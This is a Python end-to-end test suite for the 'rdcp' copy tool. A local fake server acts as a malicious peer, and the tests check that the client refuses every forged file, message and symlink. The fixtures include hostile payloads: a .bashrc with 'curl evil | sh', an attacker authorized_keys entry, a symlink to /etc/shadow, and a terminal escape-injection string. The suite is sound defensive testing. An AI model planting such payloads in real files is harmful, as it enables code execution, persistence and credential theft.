#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""The client must not trust the server (issue #16, items 10 and 15).

A key holder plays the receiver with tests/e2e/peer.py against the real
rdcp client over TCP on 127.0.0.1:

  pulls: the client asks for want.txt (or a tree); the server sends
  other.txt, .bashrc, .ssh/authorized_keys, a packed .profile, a tree
  without -r, a symlink want -> /etc/shadow, a directory .ssh mode 0777
  against the user's .ssh 0700 (-p -r), an unrequested name under
  --resume. Each must end the pull with exit 5, one line naming the entry,
  nothing of it on disk, ~/.ssh's mode unchanged and, with --resume, no
  HAVE for the unrequested name;

  pushes: the receiver forges its verdicts: a FILE_RESULT before FILE_END,
  SKIPPED without -n/-u (and with -n after a HAVE that did not skip), a
  KEPT without -n/-u/--sync (or after the file's HAVE), a
  digest that is not the client's, a pack's PACK_DONE twice. Each must
  end the push with exit 5, and --json must never show the forged digest.

  order: a FILE_END whose seq_end is beyond the credits, a DONE while a
  chunk of a file never announced waits, a FILE far ahead of the next id,
  a chunk after DONE: each exit 5 at once, nothing placed.

  any slot: with FEAT_ANY_SLOT agreed, a receiver (the sink of a push)
  whose FREED names a slot not in use, one twice, one out of the ring, or
  whose slot_ack counts more than its FREEDs named; a server (the source
  of a pull) that writes into a slot not free, past the credits, or one
  seq twice. Each exit 5 with one line, nothing placed; an honest push
  and pull with any slot first.

  words: a WELCOME refusal, an ERROR and an abort message carrying escape
  sequences and a newline: shown escaped on the client's terminal, never
  raw (item 14).

An honest pull and an honest push through the same harness come first:
they must exit 0, so the refusals are for what the peer does wrong on
purpose. (--encrypt variants are in tests/unit/test_trust.c: peer.py does
not seal chunks.) TAP lines, then "N passed, N failed"; exit 0 only if
everything passed.

  faults_trust.py [--build DIR] [SCENARIO...]
"""
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import peer  # noqa: E402
from peer import (Entry, Msg, KIND_DIR, KIND_SYMLINK, FILE, FILE_RESULT,  # noqa: E402
                  PACK_DONE, RESULT_SKIPPED)

ADDR = "127.0.0.1"
CLIENT_S = 30  # every rdcp run is bounded
EXIT_PROTOCOL = 5


class Case:
    def __init__(self, work, rdcp, keyfile):
        self.work, self.rdcp, self.keyfile = work, rdcp, keyfile
        self.key = peer.load_key(keyfile)
        self.fails = []
        self.home = tempfile.mkdtemp(prefix="home.", dir=work)

    def check(self, cond, what):
        if not cond:
            self.fails.append(what)

    def rdcp_cmd(self, port, args):
        return [self.rdcp, "--transport", "tcp", "--port", str(port),
                "--key-file", self.keyfile, "--timeout", "5"] + args

    def session(self, args, serve):
        """Runs rdcp with args against a peer.Server on a fresh port that
        serve(srv) plays after accept(); returns (exit, stderr, stdout,
        what the peer saw go wrong)."""
        srv = peer.Server(0, key=self.key, timeout=10.0)
        port = srv.lsock.getsockname()[1]
        p = subprocess.Popen(self.rdcp_cmd(port, args),
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        note = ""
        try:
            srv.accept()
            serve(srv)
        except peer.PeerError as e:  # the usual end: rdcp said ERROR
            note = "%s: %s" % (type(e).__name__, e)
        finally:
            srv.close()
        try:
            out, err = p.communicate(timeout=CLIENT_S)
        except subprocess.TimeoutExpired:
            p.kill()
            out, err = p.communicate()
            self.fails.append("rdcp still running after %d s" % CLIENT_S)
        return p.returncode, err.decode(errors="replace"), \
            out.decode(errors="replace"), note

    def pull(self, srcs, entries, opts=(), dest=None):
        """rdcp [opts] HOST:SRC... home/DEST served with entries."""
        self.srv = None

        def serve(srv):
            self.srv = srv
            srv.handshake()
            srv.expect_ring()
            srv.run_source(entries)
        args = list(opts) + ["%s::%s" % (ADDR, s) for s in srcs] + \
            [os.path.join(self.home, dest or "") if dest else self.home + "/"]
        return self.session(args, serve)

    def refused(self, res, name):
        code, err, _, _ = res
        self.check(code == EXIT_PROTOCOL, "exit %s, want %d: %s" %
                   (code, EXIT_PROTOCOL, err.strip()[:300]))
        self.check(("'%s'" % name) in err, "no line naming '%s': %s" %
                   (name, err.strip()[:300]))
        self.check(len(err.strip().splitlines()) <= 2,
                   "more than one line for it: %s" % err.strip()[:400])

    def absent(self, rel):
        self.check(not os.path.lexists(os.path.join(self.home, rel)),
                   "%s was written" % rel)

    def only(self, names):
        left = sorted(os.listdir(self.home))
        self.check(left == sorted(names), "home holds %s, want %s" %
                   (left, sorted(names)))


# ------------------------------------------------------------------ pulls

def s_pull_honest(c):
    """an honest pull of a/want.txt: exit 0, placed"""
    res = c.pull(["a/want.txt"], [Entry("want.txt", b"wanted\n" * 1000)])
    c.check(res[0] == 0, "exit %s: %s" % (res[0], res[1].strip()[:300]))
    p = os.path.join(c.home, "want.txt")
    c.check(os.path.isfile(p) and open(p, "rb").read() == b"wanted\n" * 1000,
            "want.txt not placed")


def s_pull_other(c):
    """pull of want.txt answered with other.txt: exit 5, nothing written"""
    c.refused(c.pull(["want.txt"], [Entry("other.txt", b"not asked for")]),
              "other.txt")
    c.only([])


def s_pull_bashrc(c):
    """pull of want.txt answered with want.txt and .bashrc: .bashrc refused"""
    c.refused(c.pull(["want.txt"], [Entry("want.txt", b"ok"),
                                    Entry(".bashrc", b"curl evil | sh\n")]),
              ".bashrc")
    c.absent(".bashrc")


def s_pull_authorized_keys(c):
    """-r pull of want answered with .ssh/authorized_keys: refused"""
    c.refused(c.pull(["want"], [Entry(".ssh", kind=KIND_DIR, mode=0o700),
                                Entry(".ssh/authorized_keys",
                                      b"ssh-ed25519 AAAA attacker\n",
                                      mode=0o600)], opts=["-r"]),
              ".ssh")
    c.absent(".ssh")


def s_pull_packed_profile(c):
    """pull of want.txt with a packed .profile: refused, not placed"""
    c.refused(c.pull(["want.txt"], [Entry("want.txt", b"ok"),
                                    Entry(".profile", b"evil\n",
                                          packed=True)]),
              ".profile")
    c.absent(".profile")


def s_pull_tree_without_r(c):
    """pull of want without -r answered with a tree: refused, nothing"""
    c.refused(c.pull(["want"], [Entry("want", kind=KIND_DIR, mode=0o755),
                                Entry("want/x", b"inside")]),
              "want")
    c.only([])


def s_pull_symlink(c):
    """pull of want answered with want -> /etc/shadow: refused, -r or not"""
    for opts in ([], ["-r"]):
        c.refused(c.pull(["want"], [Entry("want", kind=KIND_SYMLINK,
                                          link=b"/etc/shadow")], opts=opts),
                  "want")
        c.only([])


def s_pull_ssh_mode(c):
    """-p -r: .ssh mode 0777 against the user's .ssh 0700: mode kept"""
    os.mkdir(os.path.join(c.home, ".ssh"), 0o700)
    os.chmod(os.path.join(c.home, ".ssh"), 0o700)
    c.refused(c.pull(["want"], [Entry("want", kind=KIND_DIR, mode=0o755),
                                Entry(".ssh", kind=KIND_DIR, mode=0o777)],
                     opts=["-p", "-r"]),
              ".ssh")
    m = stat.S_IMODE(os.lstat(os.path.join(c.home, ".ssh")).st_mode)
    c.check(m == 0o700, ".ssh is now %o" % m)


def s_pull_ssh_asked(c):
    """-p -r pull of dot/.ssh into an existing .ssh 0700: copied, mode kept"""
    os.mkdir(os.path.join(c.home, ".ssh"), 0o700)
    os.chmod(os.path.join(c.home, ".ssh"), 0o700)
    res = c.pull(["dot/.ssh"], [Entry(".ssh", kind=KIND_DIR, mode=0o777),
                                Entry(".ssh/config", b"Host *\n")],
                 opts=["-p", "-r"])
    c.check(res[0] == 0, "exit %s: %s" % (res[0], res[1].strip()[:300]))
    m = stat.S_IMODE(os.lstat(os.path.join(c.home, ".ssh")).st_mode)
    c.check(m == 0o700, ".ssh is now %o" % m)
    c.check(os.path.isfile(os.path.join(c.home, ".ssh/config")),
            ".ssh/config (asked for) not placed")


def s_pull_resume_other(c):
    """--resume pull of want.txt with other.txt: refused, no HAVE for it"""
    p = os.path.join(c.home, "other.txt")
    with open(p, "wb") as f:
        f.write(b"the user's own file\n" * 100)
    os.chmod(p, 0o600)
    c.refused(c.pull(["want.txt"], [Entry("other.txt", b"x" * 5000)],
                     opts=["--resume"]),
              "other.txt")
    c.check(c.srv is not None and not c.srv.haves,
            "the client answered HAVE for other.txt: %s" %
            (c.srv.haves if c.srv else None))
    c.check(open(p, "rb").read() == b"the user's own file\n" * 100 and
            stat.S_IMODE(os.lstat(p).st_mode) == 0o600,
            "other.txt changed")
    c.only(["other.txt"])


def s_pull_no_clobber_other(c):
    """-n pull of want.txt with .bashrc: refused before -n looks at it"""
    c.refused(c.pull(["want.txt"], [Entry("want.txt", b"ok"),
                                    Entry(".bashrc", b"evil")], opts=["-n"]),
              ".bashrc")
    c.check(c.srv is not None and 1 not in c.srv.haves,
            "the client answered HAVE for .bashrc")
    c.absent(".bashrc")


def pull_list(c, names, entries, ack=None):
    """rdcp --files-from=LIST HOST::base home/: the server takes the
    client's names (all in one NAMES with END, for a short list), then
    sends a NAMES_ACK of ack (if not None) or serves entries."""
    lst = os.path.join(c.home, "..", "list-%d" % id(c))
    with open(lst, "w") as f:
        f.write("".join(n + "\n" for n in names))
    c.srv = None

    def serve(srv):
        c.srv = srv
        srv.handshake()
        srv.expect_ring()
        c.listed = srv.expect_names()
        if ack is not None:
            srv.conn.send(Msg(peer.NAMES_ACK, done=ack))
            srv.pump(lambda: False)
        srv.run_source(entries)
    return c.session(["--files-from", lst, "%s::base" % ADDR,
                      c.home + "/"], serve)


def s_pull_list_bashrc(c):
    """--files-from pull of want.txt, sub/x answered with .bashrc too: refused"""
    res = pull_list(c, ["want.txt", "./sub/x"],
                    [Entry("want.txt", b"ok"), Entry("sub", kind=KIND_DIR),
                     Entry("sub/x", b"x"), Entry(".bashrc", b"evil\n")])
    c.refused(res, ".bashrc")
    c.check(getattr(c, "listed", None) == [b"want.txt", b"sub/x"],
            "the names sent: %r" % getattr(c, "listed", None))
    # sub/x may still be finishing when .bashrc ends the session: if it
    # took its name, it is whole.
    x = os.path.join(c.home, "sub/x")
    if os.path.exists(x):
        with open(x, "rb") as f:
            c.check(f.read() == b"x", "sub/x placed with other bytes")
    c.absent(".bashrc")


def s_pull_list_ack(c):
    """--files-from pull answered by a NAMES_ACK for names never sent: refused"""
    code, err, _, _ = pull_list(c, ["a", "b"], [], ack=3)
    c.check(code == EXIT_PROTOCOL, "exit %s, want %d: %s" %
            (code, EXIT_PROTOCOL, err.strip()[:300]))
    c.check("never sent" in err, "no line saying so: %s" % err.strip()[:300])
    c.only([])


def pull_raw(c, serve_more):
    """rdcp HOST::want.txt home/ against a server that, after the ring,
    plays serve_more(srv) as its data source."""
    def serve(srv):
        c.srv = srv
        srv.handshake()
        srv.expect_ring()
        serve_more(srv)
        srv.pump(lambda: False)
    return c.session(["%s::want.txt" % ADDR, c.home + "/"], serve)


def protocol_error(c, res, words):
    code, err, _, _ = res
    c.check(code == EXIT_PROTOCOL, "exit %s, want %d: %s" %
            (code, EXIT_PROTOCOL, err.strip()[:300]))
    c.check(words in err, "no line saying '%s': %s" % (words, err.strip()[:300]))
    c.only([])


def s_pull_seq_end_beyond(c):
    """a FILE_END after more slots than the credits allowed: exit 5"""
    def more(srv):
        srv.send_entry(Entry("want.txt", b"w" * 5000,
                             end={"seq_end": 1 << 40}))
    protocol_error(c, pull_raw(c, more), "beyond the credits")


def s_pull_done_parked(c):
    """a chunk of a file never announced, then DONE: exit 5 at once"""
    def more(srv):
        srv.write_chunk(0, 0, b"data of an unannounced file")
        srv.conn.send(Msg(peer.DONE, flags=peer.DONE_WHOLE,
                          max_delete=peer.DELETE_ANY,
                          seq_end=srv.conn.posted))
    protocol_error(c, pull_raw(c, more), "before announcing the file")


def s_pull_chunk_after_done(c):
    """a chunk of an unfinished file written after DONE: exit 5"""
    def more(srv):
        e = Entry("want.txt", b"w" * 5000, send_end=False)
        srv.send_file(e)
        srv.conn.send(Msg(peer.DONE, flags=peer.DONE_WHOLE,
                          max_delete=peer.DELETE_ANY,
                          seq_end=srv.conn.posted))
        srv.write_chunk(e.file_id, 0, e.data)
    protocol_error(c, pull_raw(c, more), "after saying it was done")


def s_pull_file_ahead(c):
    """a FILE far beyond what packs could announce: exit 5 at once"""
    def more(srv):
        srv.next_id = 1 << 20
        srv.send_entry(Entry("want.txt", b"w"))
    protocol_error(c, pull_raw(c, more), "out of order")


def pull_batch(c, extra=None, ahead=False):
    """rdcp HOST::a.txt HOST::b.txt home/ against a server that announces
    both in one BATCH (with extra inside after them; b's id far ahead)."""
    a, b = Entry("a.txt", b"a" * 5000), Entry("b.txt", b"b" * 7000)
    if ahead:
        b.file["file_id"] = 1 << 20

    def serve(srv):
        c.srv = srv
        srv.handshake()
        srv.expect_ring()
        inner = [srv.file_msg(a), srv.file_msg(b)] + (extra or [])
        srv.conn.send(peer.batch(inner))
        for e in (a, b):
            srv.send_end(e, srv.send_chunks(e))
        srv.pump(lambda: all(e.file_id in srv.results for e in (a, b)))
        srv.done()
        srv.pump(lambda: srv.bye is not None)
    return c.session(["%s::a.txt" % ADDR, "%s::b.txt" % ADDR, c.home + "/"],
                     serve)


def s_pull_batch(c):
    """two FILEs in one BATCH, then their data: exit 0, both placed"""
    code, err, _, note = pull_batch(c)
    c.check(code == 0, "exit %s: %s %s" % (code, err.strip()[:300], note))
    for name, size in (("a.txt", 5000), ("b.txt", 7000)):
        p = os.path.join(c.home, name)
        c.check(os.path.isfile(p) and os.path.getsize(p) == size,
                "%s not placed whole" % name)


def s_pull_batch_done_inside(c):
    """a BATCH with a DONE among its FILEs: exit 5, nothing placed"""
    done = Msg(peer.DONE, flags=peer.DONE_WHOLE, max_delete=peer.DELETE_ANY)
    protocol_error(c, pull_batch(c, [done]), "malformed control message")


def s_pull_batch_file_ahead(c):
    """a BATCH whose second FILE is far ahead: exit 5 as if it came alone"""
    protocol_error(c, pull_batch(c, ahead=True), "out of order")


# ----------------------------------------------------------------- pushes

def push(c, opts, serve, size=300000):
    """rdcp [opts] --json src/a HOST:in/ against a forging receiver."""
    src = os.path.join(c.work, "src-%d" % id(c))
    os.makedirs(src, exist_ok=True)
    data = os.urandom(size)
    with open(os.path.join(src, "a"), "wb") as f:
        f.write(data)
    with open(os.path.join(src, "b"), "wb") as f:
        f.write(b"small, packed\n")
    files = [os.path.join(src, "a"), os.path.join(src, "b")]
    res = c.session(list(opts) + ["--json"] + files + ["%s::in/" % ADDR],
                    serve)
    shutil.rmtree(src)
    return res


def forged_sink(answer=None, tamper=None):
    def serve(srv):
        srv.handshake()
        if tamper:
            srv.conn.tamper = tamper
        srv.send_ring()
        srv.run_sink(answer=answer)
    return serve


def s_push_honest(c):
    """an honest receiver through the same harness: exit 0"""
    res = push(c, [], forged_sink())
    c.check(res[0] == 0, "exit %s: %s" % (res[0], res[1].strip()[:300]))


def s_push_early(c):
    """a FILE_RESULT before FILE_END (ring held): exit 5"""
    def serve(srv):
        srv.handshake()
        srv.conn.auto_release = False  # no slot back: FILE_END cannot go
        srv.send_ring()
        deadline = time.monotonic() + 5  # then hang up: no stall
        while time.monotonic() < deadline:
            ev = srv.conn.poll(timeout=deadline - time.monotonic())
            if ev and ev[0] == "msg" and ev[1].type == peer.ERROR:
                raise peer.RemoteError(ev[1])
            if ev and ev[0] == "msg" and ev[1].type == FILE:
                srv.conn.send(Msg(FILE_RESULT, file_id=ev[1].file_id,
                                  digest=b"\0\0\0\0"))
        raise peer.PeerError("the client took the early verdict")
    res = push(c, ["--window", "2", "--chunk-size", "64K"], serve,
               size=1 << 20)
    c.check(res[0] == EXIT_PROTOCOL, "exit %s: %s" %
            (res[0], res[1].strip()[:300]))
    c.check("before it was sent" in res[1], "not said: %s" %
            res[1].strip()[:300])


def s_push_skipped(c):
    """SKIPPED without -n/-u, and with -n after a HAVE that kept nothing"""
    def skip(fm, data, ok):
        return Msg(FILE_RESULT, file_id=fm.file_id, flags=RESULT_SKIPPED)
    for opts in ([], ["-n"]):
        res = push(c, opts, forged_sink(answer=skip))
        c.check(res[0] == EXIT_PROTOCOL, "%s: exit %s: %s" %
                (opts, res[0], res[1].strip()[:300]))
        c.check('"skipped":true' not in res[2].replace(" ", ""),
                "%s: --json shows a skipped file" % opts)


def s_push_kept(c):
    """KEPT for files no -n/-u/--sync let it keep, or after their HAVE"""
    def keep(fm, data, ok):
        m = Msg(peer.KEPT, first_id=fm.file_id, count=1)
        m.status = -1  # for run_sink: nothing of it placed here
        return m
    for opts in ([], ["-u"]):
        res = push(c, opts, forged_sink(answer=keep))
        c.check(res[0] == EXIT_PROTOCOL, "%s: exit %s: %s" %
                (opts, res[0], res[1].strip()[:300]))
        c.check('"status":"skipped"' not in res[2].replace(" ", ""),
                "%s: --json shows a skipped file" % opts)
        c.check("unexpected KEPT" in res[1], "%s: not said: %s" %
                (opts, res[1].strip()[:300]))


def s_push_digest(c):
    """success with a digest that is not the client's: exit 5, not shown"""
    forged = b"\xde\xad\xbe\xef"

    def lie(fm, data, ok):
        return Msg(FILE_RESULT, file_id=fm.file_id, digest=forged,
                   sent=len(data))
    res = push(c, [], forged_sink(answer=lie))
    c.check(res[0] == EXIT_PROTOCOL, "exit %s: %s" %
            (res[0], res[1].strip()[:300]))
    c.check("deadbeef" not in res[2], "--json shows the forged digest")


def s_push_pack_twice(c):
    """a pack answered with PACK_DONE twice: exit 5"""
    def twice(m):
        return [m, m] if m.type == PACK_DONE else m
    res = push(c, [], forged_sink(tamper=twice))
    c.check(res[0] == EXIT_PROTOCOL, "exit %s: %s" %
            (res[0], res[1].strip()[:300]))


# ------------------------------------------- any slot (FEAT_ANY_SLOT)
#
# Both sides agree to release ring slots in any order: the sink names the
# slots it releases (FREED), the source writes into any free one. What a
# lying peer could make of it: chunks written over ones still in the
# sink's hands, or a source that believes slots free that are not.

ANY_OPTS = ["--chunk-size", "64K", "--window", "8"]


def any_sink(bad=None):
    """A push's receiver that agrees to any slot. Honest (bad None), or
    holding every slot and, once the first chunk came, bad(srv, slot)."""
    def serve(srv):
        srv.handshake(any_slot=True)
        c_ok = srv.conn.any_slot
        srv.send_ring()
        if bad is None:
            srv.run_sink()
            if not c_ok:
                raise peer.PeerError("the client did not offer any slot")
            return
        srv.conn.auto_release = False
        ev = srv.conn.poll()
        while ev is not None and ev[0] != "data":
            ev = srv.conn.poll()
        if ev is None:
            raise peer.PeerTimeout("no chunk came")
        bad(srv, ev[2])
        for _ in range(20):  # until rdcp hangs up (Closed), bounded
            srv.conn.poll(1.0)
    return serve


def s_any_push_honest(c):
    """any slot: an honest receiver naming the slots it frees: exit 0"""
    res = push(c, ANY_OPTS, any_sink())
    c.check(res[0] == 0 and not res[3], "exit %s: %s %s" %
            (res[0], res[1].strip()[:300], res[3]))


def s_any_freed_unused(c):
    """any slot: a FREED naming a slot never written: exit 5"""
    res = push(c, ANY_OPTS, any_sink(lambda srv, s: srv.conn.free_slots([7])))
    protocol_error(c, res, "released ring slot 7, which holds no chunk")


def s_any_freed_twice(c):
    """any slot: a FREED naming one slot twice: exit 5"""
    res = push(c, ANY_OPTS,
               any_sink(lambda srv, s: srv.conn.free_slots([s, s])))
    protocol_error(c, res, "which holds no chunk")


def s_any_freed_range(c):
    """any slot: a FREED naming a slot past the ring: exit 5"""
    res = push(c, ANY_OPTS,
               any_sink(lambda srv, s: srv.conn.free_slots([4000])))
    protocol_error(c, res, "released ring slot 4000, which holds no chunk")


def s_any_slot_ack_ahead(c):
    """any slot: a slot_ack counting slots no FREED named: exit 5"""
    res = push(c, ANY_OPTS, any_sink(
        lambda srv, s: srv.conn.send(Msg(peer.CREDIT, slot_ack=1))))
    protocol_error(c, res, "not the ones it named")


def any_pull(c, more):
    """rdcp --chunk-size 64K --window 8 HOST::want.txt home/ against a
    server that agrees to any slot and then plays more(srv)."""
    def serve(srv):
        c.srv = srv
        srv.handshake(any_slot=True)
        if not srv.conn.any_slot:
            raise peer.PeerError("the client did not offer any slot")
        srv.expect_ring()
        more(srv)
        if more is not any_honest:
            srv.pump(lambda: False)
    return c.session(ANY_OPTS + ["%s::want.txt" % ADDR, c.home + "/"], serve)


def any_honest(srv):
    srv.run_source([Entry("want.txt", b"w" * 700000)])


def s_any_pull_honest(c):
    """any slot: an honest pull, slots reused as freed: exit 0, placed"""
    res = any_pull(c, any_honest)
    c.check(res[0] == 0 and not res[3], "exit %s: %s %s" %
            (res[0], res[1].strip()[:300], res[3]))
    c.only(["want.txt"])


def any_write(srv, seq, slot, offset=0):
    """Chunk seq of want.txt (file 0, announced) into slot."""
    data = b"w" * 65536
    srv.conn.write(peer.slot_hdr(seq, 0, len(data), offset, peer.crc32(data))
                   + data, seq, slot)


def any_writes(writes):
    def more(srv):
        srv.send_file(Entry("want.txt", b"w" * 700000))
        for seq, slot in writes:
            any_write(srv, seq, slot, seq * 65536)
    return more


def s_any_write_busy(c):
    """any slot: a write into a slot whose chunk waits: exit 5"""
    protocol_error(c, any_pull(c, any_writes([(1, 0), (0, 0)])),
                   "its slot is not free")


def s_any_write_credits(c):
    """any slot: a write past the window of 8 credits: exit 5"""
    protocol_error(c, any_pull(c, any_writes([(8, 1)])),
                   "more writes than credits")


def s_any_write_twice(c):
    """any slot: one seq written into two slots: exit 5"""
    protocol_error(c, any_pull(c, any_writes([(1, 0), (1, 2)])),
                   "seq written twice")


# ---------------------------------------------- words from the server (14)
#
# A server's words reach the client's terminal: its WELCOME refusal (no key
# needed to send one), an ERROR, a source's abort message. Control bytes in
# them must arrive escaped (util/log.c), never raw: no ESC for a terminal to
# act on, no newline to forge a line of rdcp's own.

EVIL = "x\x1b]0;pwned\x07\x1b[2J\nrdcp: 9 files copied, verified"


def clean_words(c, res, what):
    err = res[1]
    c.check("\x1b" not in err, "%s: an escape reached the terminal raw: %r"
            % (what, err[:300]))
    c.check(not any(line.startswith("rdcp: 9 files copied")
                    for line in err.splitlines()),
            "%s: a forged line: %r" % (what, err[:300]))
    c.check("\\x1b" in err, "%s: the server's words are not shown, "
            "escaped: %r" % (what, err[:300]))


def s_words_welcome(c):
    """a WELCOME refusal carrying escapes and a newline: shown escaped"""
    def serve(srv):
        srv.hello = srv.conn.expect(peer.HELLO)
        srv.conn.send(Msg(peer.WELCOME, status=-13, message=EVIL))
    res = c.session([ADDR + "::want.txt", c.home + "/"], serve)
    c.check(res[0] != 0, "exit 0 on a refusal")
    clean_words(c, res, "WELCOME")


def s_words_error(c):
    """an ERROR after the handshake carrying escapes: shown escaped"""
    def serve(srv):
        srv.handshake()
        srv.expect_ring()
        srv.conn.send(Msg(peer.ERROR, status=-5, klass=7, message=EVIL))
        srv.conn.wait_closed(5)
    res = c.session([ADDR + "::want.txt", c.home + "/"], serve)
    c.check(res[0] != 0, "exit 0 after an ERROR")
    clean_words(c, res, "ERROR")


def s_words_abort(c):
    """a source's abort message carrying escapes: shown escaped"""
    res = c.pull(["want.txt"], [Entry("want.txt", b"ok" * 100,
                                      end={"flags": peer.END_ABORT,
                                           "status": -5, "message": EVIL})])
    c.check(res[0] != 0, "exit 0 for an aborted file")
    c.absent("want.txt")
    clean_words(c, res, "abort")


SCENARIOS = [(n[2:], f) for n, f in sorted(globals().items())
             if n.startswith("s_") and callable(f)]
ORDER = ["pull_honest", "push_honest"]
SCENARIOS.sort(key=lambda s: (s[0] not in ORDER, s[0]))


def main(argv):
    build = "build"
    if argv[:1] == ["--build"]:
        build, argv = argv[1], argv[2:]
    rdcp = os.path.abspath(os.path.join(build, "rdcp"))
    pick = [s for s in SCENARIOS if not argv or s[0] in argv]
    if not os.access(rdcp, os.X_OK) or not pick:
        print("not ok 1 - %s" % ("no scenario %s" % argv if not pick
                                 else rdcp + " missing (run make all)"))
        print("0 passed, 1 failed")
        return 1
    work = tempfile.mkdtemp(prefix="rdcp-e2e-trust.")
    passed = failed = 0
    try:
        keyfile = os.path.join(work, "key")
        subprocess.run([rdcp, "--keygen", keyfile], check=True,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        print("1..%d" % len(pick))
        for i, (name, fn) in enumerate(pick, 1):
            c = Case(work, rdcp, keyfile)
            t = threading.Thread(target=fn, args=(c,), daemon=True)
            t.start()
            t.join(4 * CLIENT_S)
            if t.is_alive():
                c.fails.append("hung")
            ok = not c.fails
            print("%s %d - %s: %s" % ("ok" if ok else "not ok", i, name,
                                      fn.__doc__))
            for f in c.fails:
                print("#   %s" % f.replace("\n", "\n#   "))
            passed += ok
            failed += not ok
            sys.stdout.flush()
    finally:
        shutil.rmtree(work, ignore_errors=True)
    print("%d passed, %d failed" % (passed, failed))
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
